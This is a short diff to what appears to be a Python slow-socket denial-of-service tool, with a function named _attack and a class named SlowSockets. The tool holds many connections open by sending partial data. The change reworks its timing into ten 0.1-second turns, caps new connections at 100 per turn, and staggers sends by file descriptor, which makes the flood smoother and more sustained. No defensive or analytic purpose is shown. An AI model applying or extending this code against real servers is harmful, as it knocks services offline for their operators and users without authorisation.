@@ -11,9 +11,11 @@ from dataclasses import dataclass
 from itertools import count, cycle
 from typing import cast
 
-DRIP_SECONDS = 1.0
-REOPENED = 500
-"""Largest number of connections that are opened again in a second: more would be a flood of connections."""
+TURN_SECONDS = 0.1
+TURNS = 10
+"""A connection sends in one of so many turns."""
+OPENED = 100
+"""Largest number of connections that are opened in a turn: more would be a flood of requests."""
 
 
 @dataclass(frozen=True)
@@ -51,13 +53,15 @@ def _attack(plan: SlowSockets) -> None:
     starts, addresses = cycle(plan.starts), cycle(plan.addresses)
     with selectors.DefaultSelector() as selector:
         for turn in count():
-            tick = time.monotonic() + DRIP_SECONDS
-            for _ in range(min(plan.number - len(opened), REOPENED if turn else plan.number)):
+            tick = time.monotonic() + TURN_SECONDS
+            for _ in range(min(plan.number - len(opened), OPENED)):
                 start, drip = next(starts)
                 if (connection := _connected(plan.port, start, next(addresses))) is not None:
                     opened[connection] = drip
                     selector.register(connection, selectors.EVENT_READ)
             for connection, drip in list(opened.items()):
+                if connection.fileno() % TURNS != turn % TURNS:
+                    continue
                 try:
                     connection.send(drip)
                 except BlockingIOError:
